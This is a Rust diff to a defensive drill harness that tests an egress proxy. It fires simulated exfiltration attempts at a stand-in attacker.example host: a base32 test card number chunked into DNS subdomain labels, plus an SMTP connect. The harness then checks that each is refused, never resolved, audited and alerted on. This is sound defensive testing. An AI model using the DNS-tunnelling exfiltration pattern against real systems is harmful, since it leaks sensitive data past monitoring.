@@ -29,6 +29,7 @@ use mc_core::{
 use mc_egress::{AddressPolicy, TaskEgress, TaskRef};
 use mc_egress_proxy::{EgressProxy, ProxyConfig, StaticResolver, TaskRegistry};
 use mc_evidence::{Envelope, EvidenceKey};
+use metrics_exporter_prometheus::PrometheusHandle;
 use serde::{Deserialize, Serialize};
 use time::OffsetDateTime;
 use time::format_description::well_known::Rfc3339;
@@ -194,6 +195,9 @@ fn run_drills(which: Which, out: &Path, key: Option<&Path>) -> anyhow::Result<Ex
         one => vec![one],
     };
     let rt = tokio::runtime::Runtime::new().context("starting the runtime")?;
+    // The process's Prometheus recorder, as `mc serve` installs it: the egress drill
+    // reads the block counters back from it.
+    let metrics = crate::observability::install();
     let mut all_passed = true;
     for d in drills {
         let (name, spec) = describe(d);
@@ -202,7 +206,7 @@ fn run_drills(which: Which, out: &Path, key: Option<&Path>) -> anyhow::Result<Ex
         let mut checks = Checks::default();
         let evidence = rt.block_on(async {
             match d {
-                Which::Egress => egress(&mut checks).await,
+                Which::Egress => egress(&mut checks, metrics.as_ref()).await,
                 Which::StepupOutage => stepup_outage(&mut checks).await,
                 Which::DriftStorm => drift_storm(&mut checks).await,
                 Which::Rollback => rollback(&mut checks).await,
@@ -455,20 +459,32 @@ async fn ping(s: &mut tokio::net::TcpStream) -> bool {
     )
 }
 
-async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
+/// How many DNS-label exfiltration calls the egress drill makes (a real one sends
+/// many: a few bytes per name).
+const EXFIL_BURST: usize = 20;
+
+async fn egress(c: &mut Checks, metrics: Option<&PrometheusHandle>) -> anyhow::Result<Evidence> {
     use base64::Engine as _;
     let api = Listener::start().await?;
     let attacker = Listener::start().await?;
     let local: IpAddr = "127.0.0.1".parse()?;
-    // Data smuggled out in a DNS label (base32 of "card 4111 1111 1111 1111").
-    let exfil_name = "mnqxezbagqytcmjageytcmjageytcmjageytcmi.attacker.example".to_string();
-    let resolver = Arc::new(
-        StaticResolver::new()
-            .with("api.example.com", &[local])
-            .with("attacker.example", &[local])
-            .with(&exfil_name, &[local])
-            .with("smtp.attacker.example", &[local]),
-    );
+    // Data smuggled out a few bytes per DNS label (base32 of a card number), as
+    // DNS-tunnelling tools do; every name would resolve to the attacker.
+    let secret = "mnqxezbagqytcmjageytcmjageytcmjageytcmi";
+    let exfil_names: Vec<String> = (0..EXFIL_BURST)
+        .map(|i| {
+            let chunk = &secret[(i * 2) % (secret.len() - 8)..][..8];
+            format!("{i:02}{chunk}.attacker.example")
+        })
+        .collect();
+    let mut resolver = StaticResolver::new()
+        .with("api.example.com", &[local])
+        .with("attacker.example", &[local])
+        .with("smtp.attacker.example", &[local]);
+    for name in &exfil_names {
+        resolver = resolver.with(name, &[local]);
+    }
+    let resolver = Arc::new(resolver);
     let registry = Arc::new(TaskRegistry::new());
     let store = Arc::new(MemoryStore::new());
     let flags = Arc::new(MemoryFlagStore::new());
@@ -516,12 +532,18 @@ async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
         format!("CONNECT {target} -> {status}, round trip through the tunnel: {flows}"),
     );
 
-    let attempts: [(&str, String, u16); 6] = [
-        (
-            "DNS exfiltration (data in a subdomain)",
-            format!("CONNECT {exfil_name}:443 HTTP/1.1\r\n{auth}\r\n"),
-            403,
-        ),
+    let mut refused = 0;
+    for name in &exfil_names {
+        let (_, got) =
+            through_proxy(at, &format!("CONNECT {name}:443 HTTP/1.1\r\n{auth}\r\n")).await?;
+        refused += usize::from(got == 403);
+    }
+    c.check(
+        "DNS exfiltration (data in subdomains)",
+        refused == EXFIL_BURST,
+        format!("{refused} of {EXFIL_BURST} names carrying the secret refused with 403"),
+    );
+    let attempts: [(&str, String, u16); 5] = [
         (
             "SMTP exfiltration",
             format!("CONNECT smtp.attacker.example:25 HTTP/1.1\r\n{auth}\r\n"),
@@ -566,8 +588,8 @@ async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
     }
     let asked = resolver.asked();
     c.check(
-        "the exfiltration name was never resolved",
-        !asked.contains(&exfil_name),
+        "no exfiltration name was ever resolved (no DNS query carried the data)",
+        !exfil_names.iter().any(|n| asked.contains(n)),
         format!("names the proxy resolved: {asked:?}"),
     );
 
@@ -595,10 +617,11 @@ async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
         .iter()
         .filter(|e| e.kind == mc_egress::EGRESS_BLOCKED)
         .count();
+    let refusals = EXFIL_BURST + 4;
     c.check(
         "every refused call is audited",
-        blocked == 5,
-        format!("{blocked} mc.egress.blocked events for 5 refusals of the task (the call without credentials has no task to audit under)"),
+        blocked == refusals,
+        format!("{blocked} mc.egress.blocked events for {refusals} refusals of the task (the call without credentials has no task to audit under)"),
     );
     c.check(
         "the audit chain verifies",
@@ -611,17 +634,42 @@ async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
             .await?;
     c.check(
         "a disclosure note is written beside the evidence",
-        note.as_ref().is_some_and(|(_, n)| n.refused == 5),
+        note.as_ref()
+            .is_some_and(|(_, n)| n.refused == refusals as u64),
         match &note {
             Some((key, n)) => format!("{key}: {} refused", n.refused),
             None => "no note".into(),
         },
     );
-    c.check(
-        "the block spike alert counts these",
-        blocked > 0,
-        "mc_egress_block_total{mode=\"enforce\"} counted each refusal; McEgressBlocksSpike is unit-tested with promtool (.ci/alerts-gate)",
-    );
+    // The alert: McEgressBlocksSpike fires when refused calls in 5 minutes exceed 10
+    // and 3x the day's 5-minute average (mc-rules.yaml; promtool-tested). Evaluated
+    // here on the counters this process exported: all of them fell within the
+    // drill's few seconds, and there is no earlier traffic.
+    match metrics {
+        Some(handle) => {
+            let text = handle.render();
+            let counted = scrape_sum(
+                &text,
+                mc_core::telemetry::EGRESS_BLOCKS.name,
+                "mode=\"enforce\"",
+            );
+            let in_5m = counted;
+            let daily_5m_average = counted / 288.0;
+            let fires = in_5m > 10.0 && in_5m > 3.0 * daily_5m_average;
+            c.check(
+                "the block-spike alert's condition holds on the exported counters",
+                counted as usize == refusals + 2 && fires,
+                format!(
+                    "mc_egress_block_total{{mode=\"enforce\"}} = {counted} ({refusals} refusals of the task, no credentials twice); refused in 5 min {in_5m} > 10 and > 3 x {daily_5m_average:.2}: McEgressBlocksSpike fires"
+                ),
+            );
+        }
+        None => c.check(
+            "the block-spike alert's condition holds on the exported counters",
+            false,
+            "no metrics recorder could be installed in this process",
+        ),
+    }
     proxy.shutdown().await;
     let mut files = Vec::new();
     if let Some((_, n)) = &note {
@@ -631,6 +679,15 @@ async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
         audit: events,
         files,
     })
+}
+
+/// The sum of every sample of `metric` whose labels contain `label` in Prometheus'
+/// text format.
+fn scrape_sum(text: &str, metric: &str, label: &str) -> f64 {
+    text.lines()
+        .filter(|l| l.starts_with(&format!("{metric}{{")) && l.contains(label))
+        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
+        .sum()
 }
 
 // ---------------------------------------------------------------------------
